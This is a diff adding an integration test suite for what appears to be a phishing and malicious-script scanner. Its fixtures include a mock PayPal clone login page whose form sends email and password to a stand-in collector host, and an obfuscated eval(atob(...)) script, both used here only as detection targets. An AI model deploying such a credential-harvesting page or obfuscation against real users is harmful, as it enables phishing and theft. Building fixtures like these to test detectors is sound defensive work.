@@ -1,0 +1,106 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { ScanEnd } from '../../../src/domain/scan-job.ts';
+import { startNameServer, type NameServer } from '../name-server.ts';
+import { hasBrowser, startScanner, type Scanner } from '../scanner.ts';
+import {
+  closedAddress,
+  openAddress,
+  openForge,
+  pagesOf,
+  startSite,
+  type Pages,
+  type Site,
+} from '../sites.ts';
+import { nameFacts } from '../visits.ts';
+
+const clone = 'paypal-secure-login.example';
+const icon: Pages = (_, response) => {
+  response.setHeader('content-type', 'image/x-icon');
+  response.end(Buffer.from('a small picture'));
+};
+/** Made-up names, and a text that only `eval` can read. */
+const disguised = `${Array.from({ length: 40 }, (_, at) => `var _0x${(4_096 + at).toString(16)}=${at};`).join('')}
+eval(atob('${Buffer.from('document.title = "unpacked"').toString('base64')}'));`;
+
+let dns: NameServer;
+let site: Site;
+let safe: Site;
+let closed: Site;
+let scanner: Scanner;
+
+beforeAll(async () => {
+  site = await startSite((request, response) => {
+    const { port } = site;
+    pagesOf({
+      '/signin': `<!doctype html><html lang="en"><title>PayPal: log in to your account</title>
+        <link rel="icon" href="http://brand.test:${port}/favicon.ico"><h1>PayPal</h1><p>Your account is limited.</p>
+        <form method="post" action="http://collect.test:${port}/take"><input type="email" name="login">
+        <input type="password" name="word"><button>Log in</button></form><a href="#">Help</a>`,
+      '/disguised':
+        '<title>plain</title><script src="/packed.js"></script><script>var a = 1;</script>',
+      '/packed.js': disguised,
+      '/favicon.ico': icon,
+    })(request, response);
+  });
+  const { forge } = await openForge();
+  const tls = await forge({ names: ['site.example'] });
+  closed = await startSite((_, response) => response.end(), { address: closedAddress });
+  safe = await startSite(
+    pagesOf({
+      '/': '<title>worker</title><script>navigator.serviceWorker.register("/sw.js")</script>',
+      '/sw.js': `oninstall = (e) => e.waitUntil(Promise.allSettled([fetch('/from-worker'),
+        fetch('https://${closedAddress}:${closed.port}/x', { mode: 'no-cors' })]))`,
+    }),
+    { tls },
+  );
+  const here = { A: [openAddress] };
+  dns = await startNameServer({
+    ...{ [clone]: here, 'brand.test': here, 'collect.test': here, 'site.example': here },
+  });
+  scanner = await startScanner();
+});
+
+afterAll(() => Promise.all([scanner, site, safe, closed, dns].map((each) => each.close())));
+
+const facts = { ips: {}, cves: {}, names: { 'brand.test': nameFacts({ rank: 12 }) } };
+
+async function reportOf(url: string) {
+  const { end } = await scanner.scan(url, { dns: dns.address, facts });
+  if (end.kind !== 'done') throw new Error(`it ended as ${end.kind}`);
+  return end satisfies ScanEnd;
+}
+
+describe.skipIf(!hasBrowser)('a whole scan', () => {
+  it('tells a clone of a brand by its name, its icon and where its form leads', async () => {
+    const { report, explanation } = await reportOf(`http://${clone}:${site.port}/signin`);
+
+    expect(report.summary.url_phishing_prob).toBeGreaterThan(90);
+    expect(report.summary).toMatchObject({ fake_domain: true, diff_domain_favicon: 'Suspicious' });
+    expect(report.main_domain_info.favicon[0]?.link).toContain('brand.test');
+    const features = explanation.reasons.map(({ feature }) => feature);
+    expect(features).toEqual(expect.arrayContaining(['form.elsewhere', 'form.clear']));
+    expect(explanation.reasons.filter(({ about }) => about === 'url').length).toBeGreaterThan(0);
+  });
+
+  it('counts scripts that hide what they do', async () => {
+    const { report } = await reportOf(`http://site.example:${site.port}/disguised`);
+
+    expect(report.summary.js_obfuscated).toBe(1);
+    expect(report.main_domain_info.title).toBe('unpacked');
+  });
+
+  it('keeps a service worker behind the same door', async () => {
+    const { visit } = await scanner.scan(`https://site.example:${safe.port}/`, {
+      dns: dns.address,
+    });
+
+    expect(safe.asked).toContain('GET site.example/sw.js');
+    expect(visit.page?.title).toBe('worker');
+    const logged = visit.page?.requests.map(({ url, fault }) => [new URL(url).pathname, fault]);
+    expect(logged?.filter(([path]) => path === '/from-worker')).toEqual([['/from-worker', '']]);
+    expect(logged?.filter(([path]) => path === '/x')).toEqual([
+      ['/x', expect.stringContaining('not a public address')],
+    ]);
+    expect(closed.arrived()).toBe(0);
+  });
+});
